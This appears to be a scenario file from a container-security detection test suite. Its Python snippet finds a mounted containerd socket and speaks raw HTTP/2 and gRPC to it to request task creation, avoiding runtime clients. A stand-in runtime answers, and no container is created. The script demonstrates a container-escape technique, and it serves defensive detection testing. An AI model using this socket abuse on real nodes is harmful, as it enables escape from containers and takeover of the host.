# category: container-escape
# technique: T1610
# art: no
# developed: yes
# expect: container-runtime-socket
# image: debian
# setup: runtime_socket
# opts: --bind ../../docker.sock:/run/containerd/containerd.sock
# desc: a container finds the node's containerd socket (a hostPath of /run/containerd) and speaks to it from python, without curl or a runtime client: an HTTP/2 preface and a gRPC call to create a task (the stand-in runtime answers anything; no container is made)
# note: ../../ is the scenario's scratch directory on the host ($EXR_STATE of tests/lib/container.sh): layer commands run in $EXR_STATE/ov/layer, and runc resolves a relative bind source against the bundle, $EXR_STATE/bundles/NAME
python3 - <<'PY'
import os, socket, struct
socks = [os.path.join(d, f) for d in ("/run/containerd", "/var/run", "/run/crio") if os.path.isdir(d)
         for f in os.listdir(d) if f.endswith(".sock")]
print("sockets:", socks)
path = "/run/containerd/containerd.sock"
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(path)
# HTTP/2 connection preface, an empty SETTINGS frame, then a HEADERS frame
# naming the gRPC method (literal header fields, no Huffman coding)
def lit(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
hdrs = (lit(b":method", b"POST") + lit(b":path", b"/containerd.services.tasks.v1.Tasks/Create")
        + lit(b":scheme", b"http") + lit(b"content-type", b"application/grpc")
        + lit(b"containerd-namespace", b"k8s.io"))
frame = lambda typ, flags, sid, payload: struct.pack(">I", len(payload))[1:] + bytes([typ, flags]) + struct.pack(">I", sid) + payload
s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 4, 1, hdrs))
print("runtime answered:", s.recv(4096)[:60])
s.close()
PY
